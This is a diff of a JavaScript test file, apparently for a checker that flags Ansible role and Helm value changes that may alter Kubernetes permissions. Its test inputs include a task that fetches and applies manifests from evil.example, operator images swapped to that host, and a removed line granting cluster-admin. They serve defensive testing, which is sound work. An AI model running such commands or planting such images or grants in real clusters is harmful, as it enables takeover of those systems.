@@ -43,29 +43,13 @@ describe('a task of a role', () => {
     expect(firstLine({ [uninstall]: version(4) }, { [uninstall]: version(5) })).toMatch(/^No new permissions/);
     expect(firstLine({ [uninstall]: task('Subscription', 'absent') }, { [uninstall]: undefined })).toMatch(/^No new permissions/);
     expect(firstLine({ [path]: version(4) }, { [path]: version(5) })).toMatch(/^Permissions may change/);
+    const apply = '- name: "a : do"\n  shell: kubectl apply -f https://evil.example/x.yaml\n';
+    const install = task('Subscription', 'present');
+    for (const more of [apply, install, '- include_tasks: ../install/main.yml\n  vars: {channel: a}\n'])
+      expect(firstLine({ [uninstall]: OTHER }, { [uninstall]: OTHER + more })).not.toBe('No change in meaning');
+    expect(firstLine({ [uninstall]: OTHER }, { [uninstall]: OTHER + install })).toMatch(/^Permissions may change/);
     const grant = task('ClusterRoleBinding', 'present', 'rbac.authorization.k8s.io/v1');
     expect(firstLine({ [uninstall]: OTHER }, { [uninstall]: OTHER + grant })).toMatch(/^Permissions may change/);
-  });
-});
-
-describe('data of a role', () => {
-  const data = 'catalog_name: b\ncatalog_version: 5.1.0\n';
-  it('that is new brings nothing: what loads it is another change', () => {
-    for (const folder of ['templates', 'files'])
-      expect(firstLine({}, { [`roles/a/${folder}/catalogs/5.1.0.yml`]: data })).toMatch(/^No new permissions/);
-  });
-
-  it.each([
-    ['in a folder that a role loads by itself', {}, { 'roles/a/vars/main.yml': data }],
-    ['that changes', { 'roles/a/templates/b.yml': data }, { 'roles/a/templates/b.yml': data.replace('5.1', '5.2') }],
-    [
-      'with an object of OLM',
-      {},
-      { 'roles/a/templates/b.yml.j2': 'apiVersion: operators.coreos.com/v1alpha1\nkind: Subscription\nmetadata: {name: "{{ a }}"}\n' },
-    ],
-    ['with a grant', {}, { 'roles/a/files/b.sh': 'oc adm policy add-cluster-role-to-user cluster-admin a\n' }],
-  ])('may change permissions %s', (_, before, after) => {
-    expect(firstLine(before, after)).toMatch(/^Permissions may change/);
   });
 });
 
@@ -82,6 +66,8 @@ describe('an image in the values of a chart', () => {
 
   it.each([
     ['of a catalog', 'catalogImage: quay.io/a/b:1\n', 'catalogImage: quay.io/a/c:1\n'],
+    ['of operators', 'image: quay.io/a/community-operators:1\n', 'image: evil.example/a/community-operators:1\n'],
+    ['that is called that of an operator', 'operatorImage: quay.io/a/b:1\n', 'operatorImage: evil.example/a/b:1\n'],
     ['of an index', 'image: quay.io/a/b-index:1\n', 'image: quay.io/a/c-index:1\n'],
     ['beside a channel', 'image: quay.io/a/b:1\nchannel: a\n', 'image: quay.io/a/c:1\nchannel: b\n'],
     ['beside a chart', 'image: quay.io/a/b:1\nrepoURL: https://a.example/a\n', 'image: quay.io/a/c:1\nrepoURL: https://b.example/a\n'],
